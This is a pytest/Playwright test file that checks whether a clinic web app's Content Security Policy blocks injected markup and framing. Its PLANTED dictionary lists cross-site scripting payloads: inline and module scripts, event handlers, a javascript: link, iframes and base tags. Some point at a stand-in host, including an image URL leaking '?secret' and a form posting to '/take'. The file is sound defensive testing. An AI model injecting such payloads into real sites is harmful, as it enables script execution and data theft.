"""Should markup of somebody's ever get into a page, the page's policy lets none of it run."""

import pytest
from playwright.sync_api import expect

from tests.browser.at_the_clinic import colleague, come_in
from tests.factories import healthy_runner

EVIL = "https://elsewhere.example"
PLANTED = {
    "a script": "<script>planted('a script')</script>",
    "a script with a guessed number": "<script nonce='AAAA'>planted('guessed')</script>",
    "a script from elsewhere": f"<script src='{EVIL}/x.js'></script>",
    "a script as data": "<script src=\"data:text/javascript,planted('data')\"></script>",
    "a module": "<script type='module'>planted('a module')</script>",
    "a handler": "<img src='/none.png' onerror=\"planted('a handler')\">",
    "a handler in a drawing": "<svg onload=\"planted('a drawing')\"></svg>",
    "a link": "<a id='bad-link' href=\"javascript:planted('a link')\">Press me</a>",
    "a frame": f"<iframe src='{EVIL}/'></iframe>",
    "a frame with a page in it": '<iframe srcdoc="<script>top.planted(9)</script>"></iframe>',
    "an object": f"<object data='{EVIL}/x.swf'></object>",
    "a style": "<style>h1 { color: rgb(1, 2, 3) !important }</style>",
    "a style of one thing": "<p id='bad-style' style='color: rgb(1, 2, 3)'>Words</p>",
    "a style sheet": f"<link rel='stylesheet' href='{EVIL}/x.css'>",
    "a picture from elsewhere": f"<img src='{EVIL}/leak.png?secret' alt=''>",
    "another base": f"<base href='{EVIL}/'>",
}
PAGES = ["/", "/clinic/patients"]  # all others have the headers of one of these


@pytest.fixture
def open_planted(open_page, site, watch):
    """Opens a page into which all of that was put, under the headers that it came with."""
    for complaint in ("Content Security Policy", EVIL, "/none.png"):
        watch.expect(complaint)
    got = []

    def open_planted(path):
        page = open_page("/", healthy_runner())
        page.context.on("requestfailed", lambda asked: got.append((asked.url, asked.failure)))
        page.context.on("response", lambda answer: got.append((answer.url, "answered")))
        if path.startswith("/clinic/patients"):
            come_in(page, site, colleague(site))
        page.add_init_script("window.found = []; window.planted = (what) => found.push(what)")

        def plant(route):
            answer = route.fetch()
            body = answer.text().replace("</main>", "".join(PLANTED.values()) + "</main>")
            route.fulfill(response=answer, body=body)

        page.route(f"**{path}", plant)
        page.goto(path)
        return page, got

    return open_planted


@pytest.mark.parametrize("path", PAGES)
def test_nothing_of_it_runs_loads_or_dresses_the_page(open_planted, path):
    page, got = open_planted(path)
    expect(page.locator("#bad-link")).to_be_visible()
    page.locator("#bad-link").click()
    colours = "(name) => getComputedStyle(document.querySelector(name)).color"

    assert page.evaluate("() => window.found") == []
    assert {why for url, why in got if url.startswith(EVIL)} == {"csp"}
    for name in ("h1", "#bad-style"):
        assert page.evaluate(colours, name) != "rgb(1, 2, 3)"
    assert page.evaluate("() => document.querySelector('a[href=\"/about\"]')?.host") in (
        None,
        page.evaluate("() => location.host"),
    )


def test_a_form_that_was_planted_sends_nothing_elsewhere(open_planted):
    page, got = open_planted("/")
    with page.expect_console_message(lambda said: "form-action" in said.text):
        page.evaluate(
            """(address) => {
                const form = document.createElement("form");
                form.action = address;
                form.method = "post";
                document.body.append(form);
                form.submit();
            }""",
            f"{EVIL}/take",
        )

    assert {why for url, why in got if url.startswith(EVIL)} == {"csp"}
    assert EVIL not in page.url


def test_no_page_lets_itself_be_framed(open_page, site, watch):
    """Neither by another site nor by a page of its own that was tampered with."""
    watch.expect("Content Security Policy")
    watch.expect("frame")
    page = open_page("/")
    body = f"<iframe id='f' src='{site.address}/clinic/sign-in'></iframe>"
    answer = {"content_type": "text/html", "body": body}
    page.route("**/framing", lambda route: route.fulfill(**answer))
    page.goto("/framing")

    assert page.frame_locator("#f").locator("input").count() == 0
